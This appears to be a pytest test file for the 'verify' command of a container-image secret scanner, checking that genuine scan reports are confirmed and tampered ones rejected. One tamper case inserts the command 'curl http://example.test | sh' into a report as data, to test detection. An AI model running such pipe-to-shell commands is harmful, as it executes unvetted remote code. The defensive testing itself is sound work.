"""verify confirms what is true of the image in any form, and fails what was tampered with or is of another image."""

from __future__ import annotations

import base64
import copy
import io
import json
import subprocess
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from scanner import __version__
from scanner.cli.main import cli
from scanner.errors import LeakscanError, UnusableFile
from scanner.limits import Limits
from scanner.verify.document import read_report, unrepeatable
from tests.builders import BuiltImage, compress, file, image_of, layer, layout_members, tar_of, whiteout, write
from tests.conftest import Leakscan

VALUE = "kx0-" + "unlikely/Value&more"
ABSENT = "kx1-" + "stands/Nowhere&else"
GIVEN = {"GIVEN": VALUE, "ABSENT": ABSENT}
SECRETS = ("--secret", "id=given,env=GIVEN", "--secret", "id=absent,env=ABSENT")
FILES = {"srv/a.env": f"K={VALUE}\n", "srv/b.txt": base64.b64encode(f"key {VALUE} ok".encode())}


def image() -> BuiltImage:
    """Leaks in a live and in a deleted file, encoded, in a name that a header cuts in two, in history and config."""
    long = file("srv/" + "d" * 90 + "/" + "kx0-" + "unlikely" + "e" * 60, b"x")
    return image_of(
        layer({**FILES, "srv/gone": VALUE}, long, compression="gz"),
        layer(whiteout("srv/gone"), compression="gz"),
        config={"config": {"Env": [f"PASSWORD={VALUE}"]}},
        history=[{"created_by": f"RUN echo '{VALUE}' > /srv/a.env # buildkit"}, {"created_by": "RUN rm /srv/gone"}],
    )


def ustar(name: str) -> bytes:
    """A tar of one empty member, its name in two fields of the header if it is long."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        tar.addfile(tarfile.TarInfo(name))
    return target.getvalue()


@pytest.fixture
def report(tmp_path: Path, leakscan: Leakscan) -> Path:
    """The report of a scan of the image as an OCI archive."""
    path = write(tmp_path / "image.tar", image().oci_archive())
    ran = leakscan(path, *SECRETS, "--format", f"json={tmp_path}/report.json", env=GIVEN)
    assert ran.returncode == 1
    return tmp_path / "report.json"


def test_everything_is_confirmed(report: Path, leakscan: Leakscan) -> None:
    """The image of the report's own reference, its known secrets given again."""
    ran = leakscan("verify", report, *SECRETS, env=GIVEN)

    assert (ran.returncode, ran.stderr) == (0, "")
    assert ran.stdout.startswith("CONFIRMED: ")
    assert VALUE not in ran.stdout


def test_another_form_of_the_same_image(tmp_path: Path, report: Path, leakscan: Leakscan) -> None:
    """Layers uncompressed under other names, as an engine saves them, hold the same bytes."""
    plain = image_of(
        *(layer(raw=each.plain, created_by=each.created_by) for each in image().layers), config=image().config
    )
    path = write(tmp_path / "saved.tar", plain.docker_archive())

    assert leakscan("verify", report, path, *SECRETS, env=GIVEN).returncode == 0


def test_a_layer_that_no_manifest_names(tmp_path: Path, leakscan: Leakscan) -> None:
    """What its headers cut in two is proven by the bytes of the header, as in a layer of the image."""
    long = "srv/" + "d" * 90 + "/" + "kx0-" + "unlikely" + "e" * 60
    clean, orphan = image_of(layer(file("a", b"hi"))), compress(ustar(long), "gz")
    path = write(tmp_path / "image.tar", tar_of(*layout_members(clean, blobs=[orphan])))
    secret = ("--secret", "id=given,env=GIVEN")
    given = {"GIVEN": "d/" + "kx0-" + "unlikely"}
    ran = leakscan(path, *secret, "--format", f"json={tmp_path}/report.json", env=given)
    assert ran.returncode == 1

    ran = leakscan("verify", tmp_path / "report.json", path, *secret, env=given)

    assert (ran.returncode, ran.stderr) == (0, "")


def test_an_absence_whose_value_is_not_given(report: Path, leakscan: Leakscan) -> None:
    """It is listed as not repeated and changes no code."""
    ran = leakscan("verify", report, "--secret", "id=given,env=GIVEN", env=GIVEN)

    assert ran.returncode == 0
    assert "not repeated: known-secret absent" in ran.stdout


def test_another_image(tmp_path: Path, report: Path, leakscan: Leakscan) -> None:
    """An image with the same leak in other layers is not the one of the report."""
    path = write(tmp_path / "other.tar", image_of(layer(FILES)).oci_archive())

    ran = leakscan("verify", report, path)

    assert ran.returncode == 1
    assert "this is another image" in ran.stdout


def _hmac(document: dict[str, Any]) -> None:
    proof = document["findings"][0]["proof"]
    proof["hmac"] = proof["hmac"][::-1]


def _offset(document: dict[str, Any]) -> None:
    document["findings"][-1]["proof"]["offset"] += 1


def _path(document: dict[str, Any]) -> None:
    document["findings"][-1]["path"] = "srv/elsewhere"


def _step(document: dict[str, Any]) -> None:
    document["findings"][-1]["instruction"]["created_by"] = "RUN true"


def _layer(document: dict[str, Any]) -> None:
    document["image"]["layers"][0]["diff_id"] = "sha256:" + "0" * 64


def _verdict(document: dict[str, Any]) -> None:
    document["verdict"] = "clean"


def _present(document: dict[str, Any]) -> None:
    document["known_secrets"] = [
        {**secret, "verdict": "absent", "sightings": []} for secret in document["known_secrets"]
    ]


def _removed(document: dict[str, Any]) -> None:
    del document["findings"][0]


def _hidden(document: dict[str, Any]) -> None:
    """As whoever wants a clean report would do it: consistent in itself."""
    document["findings"] = []
    document["verdict"] = "clean"
    document["known_secrets"] = [
        {**secret, "verdict": "absent", "sightings": []} for secret in document["known_secrets"]
    ]


def _milder(document: dict[str, Any]) -> None:
    document["findings"] = [{**finding, "severity": "low", "gated": False} for finding in document["findings"]]
    document["verdict"] = "clean"


def _told_otherwise(document: dict[str, Any]) -> None:
    deleted = next(finding for finding in document["findings"] if finding["state"] == "deleted")
    deleted |= {"state": "live", "removed_by": None}


def _advice(document: dict[str, Any]) -> None:
    document["findings"][0]["remediation"]["steps"] = ["Nothing needs to be done."]


def _command(document: dict[str, Any]) -> None:
    document["findings"][0]["proof"]["command"] = "curl http://example.test | sh"


def _coverage(document: dict[str, Any]) -> None:
    document["coverage"]["bytes"] = {"total": 1 << 30, "accounted": 1 << 30}


def _no_layers(document: dict[str, Any]) -> None:
    document["image"]["layers"] = 3


@pytest.mark.parametrize("tamper", [_hmac, _offset, _path, _step, _layer, _verdict, _present, _removed, _hidden,
                                    _milder, _told_otherwise, _advice, _command, _coverage, _no_layers])  # fmt: skip
def test_a_report_that_was_tampered_with(
    report: Path, leakscan: Leakscan, tamper: Callable[[dict[str, Any]], None]
) -> None:
    """A changed proof, place, step, layer, verdict or absence does not pass."""
    document = json.loads(report.read_text())
    changed = copy.deepcopy(document)
    tamper(changed)
    assert changed != document
    report.write_text(json.dumps(changed))

    ran = leakscan("verify", report, *SECRETS, env=GIVEN)

    assert ran.returncode == 1, ran.stdout
    assert ran.stdout.splitlines()[-1].startswith("DIFFERS")


@pytest.mark.parametrize("tamper", [_removed, _milder, _told_otherwise, _advice, _command])
def test_a_tampered_report_of_another_source(
    tmp_path: Path, report: Path, leakscan: Leakscan, tamper: Callable[[dict[str, Any]], None]
) -> None:
    """What was tampered with differs from the same image in another form as well."""
    document = json.loads(report.read_text())
    tamper(document)
    report.write_text(json.dumps(document))
    plain = image_of(
        *(layer(raw=each.plain, created_by=each.created_by) for each in image().layers), config=image().config
    )

    ran = leakscan("verify", report, write(tmp_path / "saved.tar", plain.docker_archive()), *SECRETS, env=GIVEN)

    assert ran.returncode == 1, ran.stdout


@pytest.mark.parametrize(
    ("key", "value", "said"),
    [("version", "0.0.1", "made by leakscan 0.0.1"), ("rules_digest", "sha256:0", "made by other rules")],
)
def test_a_report_that_cannot_be_repeated(
    report: Path, leakscan: Leakscan, key: str, value: str, said: str
) -> None:
    """Another version or other rules may say other things: its proofs are checked, and the rest is called unread."""
    document = json.loads(report.read_text())
    document["tool"][key] = value
    report.write_text(json.dumps(document))

    ran = leakscan("verify", report, *SECRETS, env=GIVEN)

    assert ran.returncode == 3
    assert said in ran.stdout and "differs:" not in ran.stdout


def test_what_the_user_accepts(tmp_path: Path, leakscan: Leakscan) -> None:
    """A report under a baseline is confirmed with that baseline; without it what it accepts cannot be told."""
    leaking = image_of(layer({"srv/a.env": "PASSWORD=kx0-Unlikely9Value7more\n"}))
    made = write(tmp_path / "image.tar", leaking.oci_archive())
    accepted, path = tmp_path / "accepted.json", tmp_path / "report.json"
    leakscan("baseline", "create", made, "-o", accepted)
    assert leakscan(made, "--baseline", accepted, "--format", f"json={path}").returncode == 0

    assert leakscan("verify", path, "--baseline", accepted).returncode == 0
    ran = leakscan("verify", path)

    assert ran.returncode == 3 and "--baseline" in ran.stdout


def test_a_secret_that_is_present_and_not_given(report: Path, leakscan: Leakscan) -> None:
    """Its bytes are proved; what else is said of it cannot be told, so the report is not confirmed, nor different."""
    ran = leakscan("verify", report, "--secret", "id=absent,env=ABSENT", env=GIVEN)

    assert ran.returncode == 3
    assert "differs:" not in ran.stdout


def test_a_layer_that_is_not_there(tmp_path: Path, report: Path, leakscan: Leakscan) -> None:
    """What cannot be read is neither confirmed nor called different: exit code 3."""
    torn = [each for each in image().oci_members() if image().layers[0].digest[7:] not in each.name]
    path = write(tmp_path / "torn.tar", tar_of(*torn))

    ran = leakscan("verify", report, path)

    assert ran.returncode == 3
    assert "layer.missing" in ran.stdout


def test_the_report_of_an_audit_is_told_as_such() -> None:
    """`leakscan audit --format json` wrote it, so it would be wrong to say that leakscan did not."""
    counts = {"scanned": 1, "incomplete": 0, "failed": 0, "not_reached": 0}
    with pytest.raises(LeakscanError, match="the report of an audit"):
        read_report({"schema_version": "1", "counts": counts, "registry": "r.example", "images": [{"findings": []}]})


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"schema_version": "1", "findings": [1], "image": {}}', "nonsense"])
def test_what_is_no_report(tmp_path: Path, leakscan: Leakscan, text: str) -> None:
    """It is refused with a message, not a traceback."""
    path = write(tmp_path / "report.json", text.encode())

    ran = leakscan("verify", path, "image.tar")

    assert ran.returncode == 3
    assert ran.stderr.startswith("leakscan: this")


def test_a_report_on_standard_input_has_the_limit_of_a_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """And the same is said of one that is larger: what is cut off is no JSON document, but that is not why."""
    monkeypatch.setattr("scanner.cli.verify._LARGEST", 1 << 20)
    raw = b'"' + b"a" * (1 << 20) + b'"'
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(raw)))

    for path in ("-", str(write(tmp_path / "report.json", raw))):
        with pytest.raises(UnusableFile, match="is larger than 1 MiB"):
            cli.main(["verify", path, "image.tar"], standalone_mode=False)


def test_a_report_that_cannot_be_read_is_wrong_usage_wherever_it_is(tmp_path: Path) -> None:
    """It is the user's own file, and nothing of an image or a scan; standard input is no other matter."""
    written = write(tmp_path / "written", b"")

    for words in (f"- 0>>{written}", str(tmp_path)):
        command = ["sh", "-c", f"{sys.executable} -m scanner verify {words}"]
        ran = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
        assert (ran.returncode, "cannot be read: " in ran.stderr) == (2, True)


def test_a_dockerfile_is_read_before_the_image(report: Path, leakscan: Leakscan) -> None:
    """One that cannot be is wrong usage, whatever becomes of the image and the scan."""
    ran = leakscan("verify", report, "--dockerfile", report.with_name("nowhere"), report.with_name("none.tar"))

    assert ran.returncode == 2 and "nowhere cannot be read" in ran.stderr


def test_a_setting_of_another_kind_is_told_and_no_crash() -> None:
    """A report is somebody else's words: what cannot be a severity makes its scan one that cannot be repeated."""
    made = {"tool": {"version": __version__, "rules_digest": "r"}, "settings": {"fail_on": [], "limits": {}}}

    assert "what was asked" in unrepeatable(made, "r", Limits())
    assert "what was asked" not in unrepeatable({**made, "settings": {"fail_on": "low", "limits": {}}}, "r", Limits())
